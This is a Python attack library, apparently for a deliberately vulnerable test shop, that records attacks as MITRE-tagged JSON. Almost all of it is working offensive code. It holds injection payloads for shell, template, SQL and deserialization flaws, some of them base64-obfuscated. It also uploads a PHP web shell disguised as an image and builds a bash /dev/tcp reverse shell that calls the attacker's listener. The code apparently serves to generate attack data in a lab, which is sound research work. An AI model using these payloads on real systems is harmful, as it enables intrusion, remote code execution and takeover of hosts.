"""What an attack is made of: it stands outside of the shop, on the attacker's place of the shop's
network, asks the edge like everybody else, and prints one JSON object in the end.

    attack      its name
    technique   as MITRE ATT&CK numbers it
    begin, end  Unix times; it begins with the first malicious request
    entry       the service broken into
    path        the way there and on
    touches     files, hosts, data
    replicas    which replica of a service it was, as far as known
    succeeded   proven; the exit code is 0 then
    evidence    the proof

It can do nothing outside of a shop that is up: the process leaves the host's network first.
"""

import argparse
import base64
import html
import http.client
import json
import os
import re
import signal
import socket
import sys
import threading
import time
from contextlib import contextmanager, nullcontext
from pathlib import Path
from urllib.parse import quote

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
# pylint: disable=wrong-import-position
from system import Shop, network  # noqa: E402

CARD = "4000000000000002"


class Attack:
    """One run. The methods named after services are the holes: they run a command there."""

    def __init__(self, technique: str, path: list[str], touches: list[str], entry: str = ""):
        self.facts = {"attack": Path(sys.argv[0]).stem, "technique": technique,
                      "entry": entry or path[-1], "path": path, "touches": touches}
        self.began, self.replicas, self.evidence = None, {}, {}

    def main(self, run) -> None:
        """Runs it; run(attack) returns whether it succeeded."""
        parser = argparse.ArgumentParser(description=sys.modules["__main__"].__doc__)
        parser.add_argument("--name", default="shop", help="the shop's name (shop)")
        parser.add_argument("--replica", metavar="NAME", help="this one of a service on the way: "
                            "its balancer asks no other while the attack runs")
        parser.add_argument("--pause", type=float, help="seconds between the steps of a slow one")
        options = parser.parse_args()
        self.shop, self.pause = Shop(options.name), options.pause
        if not self.shop.engine:
            raise SystemExit(f"{self.facts['attack']}: no such shop is up (testbed/shop up)")
        self.own = self.shop.engine.address("attacker")
        signal.signal(signal.SIGTERM, lambda *_: sys.exit(1))  # what was changed is put back
        with self._sent_to(options.replica), network.inside(self.shop.engine.place("attacker")):
            succeeded = bool(run(self))
        print(json.dumps({**self.facts, "begin": self.began, "end": time.time(),
                          "replicas": self.replicas, "succeeded": succeeded,
                          "evidence": self.evidence}))
        raise SystemExit(0 if succeeded else 1)

    def _sent_to(self, replica: str | None):
        """Everybody's requests go to this replica of its service."""
        if not replica:
            return nullcontext()
        service = replica.rpartition("-")[0]
        if service not in self.facts["path"]:
            raise SystemExit(f"{self.facts['attack']}: {replica}: not on the way of this attack "
                             f"({', '.join(self.facts['path'])})")
        self.replicas[service] = replica
        return self.shop.only(replica)

    def wait(self, seconds: float) -> None:
        """A pause of the patient; --pause overrides it."""
        time.sleep(seconds if self.pause is None else self.pause)

    def visit(self, method: str, path: str, body=b"", mime="application/json") -> tuple[int, str]:
        """A request in which there is no harm yet."""
        data = body if isinstance(body, bytes) else json.dumps(body).encode()
        connection = http.client.HTTPConnection(*self.shop.edge, timeout=30)
        try:
            connection.request(method, path, data or None, {"content-type": mime})
            reply = connection.getresponse()
            replica = reply.headers.get("x-replica", "")
            if replica.rpartition("-")[0] == self.facts["entry"]:
                self.replicas[self.facts["entry"]] = replica
            return reply.status, reply.read().decode(errors="replace")
        finally:
            connection.close()

    def ask(self, method: str, path: str, body=b"", mime="application/json") -> tuple[int, str]:
        """A malicious request."""
        self.began = self.began or time.time()
        return self.visit(method, path, body, mime)

    def prove(self, holds: bool, **evidence) -> bool:
        """Keeps the evidence; long texts are cut."""
        self.evidence |= {key: value[:300] if isinstance(value, str) else value
                          for key, value in evidence.items()}
        return holds

    # The holes.

    def order(self, name="Eve", **payment) -> dict:
        """A check-out with a name, or a payment, of the attacker's making."""
        cart = f"e{os.urandom(6).hex()}"
        self.visit("POST", f"/cart/{cart}", {"product": 1, "quantity": 1})
        wish = {"cart": cart, "name": name, "address": "1 Way",
                "payment": {"card": CARD, "memo": "", **payment}}
        do = self.ask if payment or name != "Eve" else self.visit
        return json.loads(do("POST", "/orders/checkout", wish)[1])

    def shipping(self, command: str) -> str:
        """A name that ends the shell command which prints the label."""
        said = self.order(f"'; ({command}) 2>&1; echo '").get("label", "")
        return said.strip().removesuffix("1 Way").strip()

    def front(self, command: str) -> str:
        """A greeting that is a template literal with code in it."""
        code = ("${process.mainModule.require('child_process')"
                f".execSync(atob('{_base64(command)}')).toString()}}")
        return self._page("/partner?greeting=" + quote(code))

    def notify(self, command: str) -> str:
        """A gift card that is a Jinja2 template with a way to os in it."""
        command = f"echo {_base64(command)} | base64 -d | sh 2>&1"
        text = "{{ cycler.__init__.__globals__.os.popen('" + command + "').read() }}"
        return self._page("/gift?text=" + quote(text))

    def _page(self, path: str) -> str:
        """The one line of a page, as it was before it became HTML."""
        found = re.search("<p>(.*)</p>", self.ask("GET", path)[1], re.DOTALL)
        return html.unescape(found[1]).strip() if found else ""

    def cart_code(self, code: str) -> str:
        """A shared cart with a function in it, which is called as soon as it is there."""
        note = f"_$$ND_FUNC$$_(async function() {{ {code} }})()"
        answer = self.ask("POST", "/cart/eve/import", {"items": [], "note": note})[1]
        return json.loads(answer).get("note") or ""

    def cart(self, command: str) -> str:
        """The same, with a shell."""
        shell = f"execSync(atob('{_base64(f'({command}) 2>&1 || true')}'))"
        return self.cart_code(f"return require('child_process').{shell}.toString()")

    def orders(self, command: str) -> str:
        """A bulk order in YAML that has the customer's name computed."""
        command = f"echo {_base64(command)} | base64 -d | sh 2>&1 | base64 -w0"
        text = (f"name: !!python/object/apply:subprocess.getoutput ['{command}']\naddress: 1 Way\n"
                f"card: '{CARD}'\nlines:\n- {{product: 1, quantity: 1}}\n")
        answer = json.loads(self.ask("POST", "/orders/bulk", text.encode(), "application/yaml")[1])
        return base64.b64decode(answer.get("name", "")).decode(errors="replace")

    def reviews(self, command: str) -> str:
        """A feed that is a command; what it says comes back as reviews."""
        product = 1000 + int.from_bytes(os.urandom(3), "big")
        pipe = (f"|echo {_base64(command)} | base64 -d | sh 2>&1"
                f" | base64 -w 190 | sed s/^/{product},1,/")
        self.ask("POST", "/reviews/import", {"feed": pipe})
        lines = json.loads(self.ask("GET", f"/reviews/{product}")[1])["reviews"]
        said = "".join(line.split(" ")[1] for line in reversed(lines))
        return base64.b64decode(said).decode(errors="replace")

    def sql(self, statements: str, select: str) -> str:
        """Words of a search that end the statement and begin others; the last one's text."""
        words = f"zz'; {statements} SELECT 1 AS id, ({select})::text AS name, 1 AS price; --"
        answer = json.loads(self.ask("GET", "/catalog/search?q=" + quote(words))[1])
        return answer["products"][0]["name"] or "" if answer.get("products") else ""

    def database(self, command: str) -> str:
        """A program on the database's host, run by the database."""
        escaped = f"({command}) 2>&1; true".replace("'", "''")
        return self.sql(f"DROP TABLE IF EXISTS said; CREATE TEMP TABLE said (line text);"
                        f" COPY said FROM PROGRAM '{escaped}';",
                        r"SELECT string_agg(line, E'\n') FROM said")

    def media(self, command: str, shell="lizard-1.php") -> str:
        """A picture that is a PHP script, sent first if need be; then it is asked."""
        if self.ask("GET", f"/media/uploads/{shell}")[0] != 200:
            script = (b"<?php header('x-replica: ' . gethostname());"
                      b" system(base64_decode($_GET['c'] ?? '') . ' 2>&1');")
            self.ask("POST", f"/media/upload?name={shell}", script, "image/jpeg")
        return self.ask("GET", f"/media/uploads/{shell}?c={quote(_base64(command))}")[1]

    # The attacker's own side.

    @contextmanager
    def listener(self, port: int, handle):
        """Serves each connection with handle(connection) while the block runs."""
        server = socket.create_server((self.own, port))

        def accept():
            while True:
                try:
                    connection, _ = server.accept()
                except OSError:
                    return
                with connection:
                    connection.settimeout(20)
                    handle(connection)

        thread = threading.Thread(target=accept, daemon=True)
        thread.start()
        try:
            yield
        finally:
            server.shutdown(socket.SHUT_RDWR)
            server.close()
            thread.join(25)


def _base64(command: str) -> str:
    return base64.b64encode(command.encode()).decode()


def until(condition, seconds: float = 15) -> bool:
    """Waits until the condition holds."""
    end = time.monotonic() + seconds
    while not condition() and time.monotonic() < end:
        time.sleep(0.05)
    return bool(condition())


def session(connection: socket.socket, commands, pause=lambda: None) -> dict[str, str]:
    """Types commands into a shell that has called back; what each said."""
    reader, said = connection.makefile("r", encoding="utf-8", errors="replace"), {}
    for command in commands:
        connection.sendall(f"{command}; echo; echo '-- end --'\n".encode())
        lines = []
        while (line := reader.readline()) and line.rstrip() != "-- end --":
            lines.append(line.rstrip())
        said[command] = "\n".join(lines).strip()
        pause()
    connection.sendall(b"exit\n")
    return said


def call_back(attack: Attack, port: int) -> str:
    """The command of a shell that calls the attacker and does not wait for him."""
    return f"setsid bash -c 'exec bash </dev/tcp/{attack.own}/{port} >&0 2>&1' >/dev/null 2>&1 &"
